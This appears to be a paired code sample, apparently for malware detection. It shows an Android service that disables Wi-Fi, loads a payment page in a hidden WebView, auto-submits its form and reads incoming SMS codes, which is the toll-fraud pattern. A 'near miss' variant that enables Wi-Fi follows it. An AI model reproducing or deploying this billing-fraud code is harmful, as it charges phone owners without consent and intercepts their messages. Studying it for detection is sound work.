permissions("RECEIVE_SMS", "CHANGE_WIFI_STATE", "INTERNET")

@service
class Work(Service):
    def onStartCommand(self, intent, flags, number):
        wifi = cast(WifiManager, self.getSystemService("wifi"))
        wifi.setWifiEnabled(False)
        page = WebView(self)
        page.setWebViewClient(Pages())
        page.loadUrl("https://example.org/pay")
        return 1

class Pages(WebViewClient):
    def onPageFinished(self, page, address):
        page.evaluateJavascript("document.forms[0].submit()", None)

@receiver(actions=["android.provider.Telephony.SMS_RECEIVED"])
class Inbox(BroadcastReceiver):
    code: String
    def onReceive(self, context, intent):
        self.code = Telephony_Sms_Intents.getMessagesFromIntent(intent)[0].getMessageBody()

# near miss: switches Wi-Fi on before it loads the page
@service
class Work(Service):
    def onStartCommand(self, intent, flags, number):
        wifi = cast(WifiManager, self.getSystemService("wifi"))
        wifi.setWifiEnabled(True)
        page = WebView(self)
        page.setWebViewClient(Pages())
        page.loadUrl("https://example.org/pay")
        return 1
